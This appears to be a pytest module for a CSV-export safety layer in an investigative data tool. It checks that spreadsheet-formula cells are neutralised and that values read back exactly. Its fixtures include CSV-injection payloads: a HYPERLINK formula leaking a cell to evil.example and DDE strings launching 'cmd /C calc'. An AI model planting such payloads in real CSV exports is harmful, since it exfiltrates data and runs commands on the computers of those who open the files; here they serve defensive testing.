"""CSV injection: every CSV faisceau writes neutralises cells a spreadsheet would run, through
one module (``faisceau.export.safecsv``), and the project reads its own files back exactly."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import polars as pl
from followthemoney.statement import Statement, read_statements
from hypothesis import given
from hypothesis import strategies as st

from faisceau.export import safecsv
from faisceau.intel.exchange import write_ftm_statements, write_i2

SRC = Path(__file__).resolve().parents[2] / "src" / "faisceau"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+33 6 12 34 56 78",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "'=déjà cité", "''+1"]


def _dangerous(cell: str) -> bool:
    return cell[:1] in safecsv.TRIGGERS


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'ab;\"\n"), max_size=8) | st.text())
def test_neutralise_is_safe_and_restore_inverts_it(value: str) -> None:
    written = safecsv.neutralise(value)
    assert not _dangerous(written)
    assert safecsv.restore(written) == value


def test_only_the_safe_module_writes_csv() -> None:
    """The architectural rule: no ``csv.writer``, ``DictWriter`` or polars ``write_csv`` /
    ``sink_csv`` outside ``faisceau.export.safecsv``, nor followthemoney's CSV writer."""
    raw = re.compile(r"(?<![\w.])csv\.(writer|DictWriter)\b|\.(write_csv|sink_csv|to_csv)\(|"
                     r"\b(CSV|Pack)StatementWriter\b")
    offenders = [f"{path.relative_to(SRC)}:{n}: {line.strip()}"
                 for path in SRC.rglob("*.py") if path.name != "safecsv.py"
                 for n, line in enumerate(path.read_text("utf-8").splitlines(), 1)
                 if raw.search(line) and not line.lstrip().startswith("#")]
    assert offenders == []


def test_i2_export_neutralises_text_cells_and_keeps_numbers(tmp_path: Path) -> None:
    ids = [f"person:{i}" for i in range(len(HOSTILE))]
    nodes = pl.DataFrame({"id": ids, "kind": ["person"] * len(ids), "label": HOSTILE,
                          "category": [None] * len(ids), "role": list(reversed(HOSTILE)),
                          "case_id": ["=A1"] * len(ids),
                          "first": [dt.date(2024, 1, 2)] * len(ids),
                          "last": [None] * len(ids)},
                         schema_overrides={"category": pl.Utf8, "last": pl.Date})
    edges = pl.DataFrame({"source": ids[:2], "target": ids[1:3], "kind": ["uses", "uses"],
                          "weight": [-0.5, 1.0], "count": [3, 1],
                          "first": [None, None], "last": [None, None],
                          "evidence": ["@evil", "-1"]},
                         schema_overrides={"first": pl.Date, "last": pl.Date})
    write_i2(nodes, edges, tmp_path)
    for name in ("i2_entities.csv", "i2_links.csv"):
        with open(tmp_path / name, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.DictReader(fh, delimiter=";"))
        text = [v for r in rows for k, v in r.items() if k not in ("poids", "nombre")]
        assert not [v for v in text if _dangerous(v)], name
    with open(tmp_path / "i2_entities.csv", encoding="utf-8-sig", newline="") as fh:
        entities = list(safecsv.reader(fh, delimiter=";"))[1:]
    # Line breaks become spaces (i2 reads one item a line), the rest comes back exactly.
    assert [e[2] for e in entities] == [v.replace("\r", " ") for v in HOSTILE]
    with open(tmp_path / "i2_links.csv", encoding="utf-8-sig", newline="") as fh:
        links = list(csv.DictReader(fh, delimiter=";"))
    assert [r["poids"] for r in links] == ["-0,5", "1,0"]  # a number stays a number
    assert [r["preuve"] for r in links] == ["'@evil", "'-1"]


def test_statement_csv_neutralises_and_reads_back() -> None:
    stmts = [Statement(entity_id="p-1", prop="name", schema="Person", value=v,
                       dataset="annonces", origin="=origine") for v in HOSTILE]
    out = io.BytesIO()
    write_ftm_statements(stmts, out, format="csv")
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8"))))
    assert not [c for r in rows for c in r if _dangerous(c)]
    back = list(read_statements(io.BytesIO(out.getvalue()), "csv"))
    assert sorted(safecsv.restore(s.value) for s in back) == sorted(HOSTILE)


def test_units_csv_written_safe_reads_back_exactly(store_env: dict[str, str],
                                                   tmp_path: Path) -> None:
    """The synthetic units' spreadsheets are written through ``safecsv``; the case-file
    import gives back the values, not the quoted cells (a phone stays ``+33...``)."""
    import json

    from typer.testing import CliRunner

    from faisceau.cli.main import app

    cases = tmp_path / "cases"
    cases.mkdir()
    with open(cases / "cases.csv", "w", encoding="utf-8", newline="") as fh:
        w = safecsv.writer(fh, delimiter=";", lineterminator="\n")
        w.writerow(["affaire_id", "numero_procedure", "unite_code", "departement",
                    "date_ouverture", "statut"])
        w.writerow(["C1", "2026/SD-59/0001", "SD-59", "59", "2026-02-01", "ouverte"])
    with open(cases / "people.csv", "w", encoding="utf-8", newline="") as fh:
        w = safecsv.writer(fh, delimiter=";", lineterminator="\n")
        w.writerow(["personne_id", "affaire_id", "categorie", "statut", "role", "nom", "prenom",
                    "date_naissance", "mineur", "adresse", "telephones", "emails"])
        w.writerow(["S1", "C1", "suspect", "suspect", "proxénète", "=Moreau", "'@Karim",
                    "1980-01-01", "non", "", "+33699887766", ""])
    assert b"'+33699887766" in (cases / "people.csv").read_bytes()
    env = {**store_env, "FAISCEAU_ANALYST": "operateur.test"}
    runner = CliRunner()
    assert runner.invoke(app, ["cases", "import", str(cases)], env=env).exit_code == 0
    shown = runner.invoke(app, ["cases", "show", "C1", "--json"], env=env)
    assert shown.exit_code == 0, shown.output
    printed = json.dumps(json.loads(shown.output), ensure_ascii=False)
    assert "+33699887766" in printed and "'+33" not in printed
    assert "=Moreau" in printed and "'=Moreau" not in printed and "'@Karim" in printed
